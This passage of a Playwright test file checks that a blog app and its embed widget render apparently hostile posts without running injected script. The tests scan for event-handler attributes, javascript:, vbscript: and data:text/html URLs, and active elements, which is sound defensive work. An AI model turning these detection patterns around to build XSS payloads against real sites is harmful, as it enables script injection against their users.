    fs.rmSync(dir, { recursive: true, force: true });
  }
});

test('local files: the hostile posts opened from disk, parsed and rendered in the page', { skip }, async () => {
  const page = await hostilePage();
  await page.goto(site.url);
  await page.waitForSelector('main .bs-list');
  await page.locator('input.bs-open-folder-input').setInputFiles(tmp);
  await page.waitForFunction((n) => document.querySelector('.bs-local-bar')?.dataset.articles === String(n), posts.catalog.articles.length);
  assert.deepEqual(await findings(page), [], 'the list of opened files');
  for (const a of vectorPosts()) {
    // In-app navigation only (opened files live in this page): the list's pages are
    // walked with their own links until the post's card is there.
    const card = page.locator('main article.bs-card h2 a').filter({ hasText: new RegExp(`^${a.title.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}$`) });
    for (let p = 2; !(await card.count()) && p < 10; p++) {
      await page.locator(`.bs-pagination a.bs-page-link:text-is("${p}")`).click();
      await page.waitForFunction((p) => location.pathname.endsWith(`/page/${p}`), p);
    }
    await card.first().click();
    await page.waitForSelector('.bs-body');
    await page.evaluate(async () => {
      for (let y = 0; y < document.body.scrollHeight; y += 600) { window.scrollTo(0, y); await new Promise((r) => setTimeout(r, 20)); }
    });
    assert.deepEqual(await findings(page), [], `${a.path} opened locally`);
    const links = page.locator('.bs-body a');
    for (let i = 0, n = await links.count(); i < n; i++) {
      await links.nth(i).hover({ timeout: 1000 }).catch(() => {});
    }
    assert.equal(await page.evaluate(() => window.__xss || 0), 0, a.path);
    await page.goBack();
    await page.waitForSelector('main .bs-list');
    // Back to the first page of the list for the next post.
    if (/\/page\/\d+$/.test(new URL(page.url()).pathname)) {
      await page.locator('.bs-pagination a.bs-page-link:text-is("1")').click();
      await page.waitForFunction(() => !/\/page\/\d+$/.test(location.pathname));
    }
  }
  assert.deepEqual(page.dialogs, []);
  assert.deepEqual(page.problems, []);
});

test('embed widget: the hostile catalog in widgets on a host page, every article expanded in place', { skip }, async () => {
  const hostDir = fs.mkdtempSync(path.join(os.tmpdir(), 'bs-xss-host-'));
  const host = await sourceServer(hostDir, { cors: false });
  try {
    fs.writeFileSync(path.join(hostDir, 'index.html'), `<!doctype html><meta charset="utf-8"><link rel="icon" href="data:,"><title>host</title>
      <div id="w" data-broadsheet data-src="${src.url('catalog.json')}" data-layout="cards" data-limit="50"></div>
      <script type="module" src="${site.url}broadsheet-embed.js" data-allow-src="${new URL(src.url('')).origin}"></script>`);
    const page = await hostilePage();
    await page.goto(host.url('index.html'));
    await page.waitForFunction((n) => document.querySelector('#w')?.shadowRoot?.querySelectorAll('.bsw-title a').length === n, posts.catalog.articles.length);
    /** `findings` for the widget's shadow root (the document's own scan cannot see in). */
    const inWidget = () => page.evaluate(() => {
      const root = document.querySelector('#w').shadowRoot;
      const bad = [];
      const describe = (el) => el.outerHTML.slice(0, 160);
      for (const el of root.querySelectorAll('*')) {
        for (const a of el.attributes) {
          const name = a.name.toLowerCase();
          if (name.startsWith('on') || name === 'srcdoc') bad.push(`${name}: ${describe(el)}`);
          const v = a.value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
          if (/^(href|src|action|formaction|xlink:href|data|srcset|poster)$/.test(name) && /^(javascript|vbscript):|^data:text\/html/.test(v)) bad.push(`script URL in ${name}: ${describe(el)}`);
        }
      }
      for (const b of root.querySelectorAll('.bsw-body')) {
        for (const el of b.querySelectorAll('script, iframe, frame, object, embed, base, meta, link, style, form, svg, math, template, noscript, [style]')) bad.push(`active element: ${describe(el)}`);
      }
      if (window.__xss) bad.push('window.__xss was set');
      return bad;
    });
    assert.deepEqual(await inWidget(), [], 'the widget list');
    const titles = page.locator('#w .bsw-title a');
    for (let i = 0, n = await titles.count(); i < n; i++) {
      await titles.nth(i).click();
      await page.locator('#w .bsw-body').waitFor();
      const links = page.locator('#w .bsw-body a');
      for (let j = 0, m = await links.count(); j < m; j++) await links.nth(j).hover({ timeout: 1000 }).catch(() => {});
      assert.deepEqual(await inWidget(), [], `widget item ${i}`);
      await titles.nth(i).click(); // fold it again
      await page.waitForFunction(() => !document.querySelector('#w').shadowRoot.querySelector('.bsw-body'));
    }
    assert.deepEqual(page.dialogs, []);
    assert.deepEqual(page.problems, []);
  } finally {
    await host.close();
    fs.rmSync(hostDir, { recursive: true, force: true });
  }
});
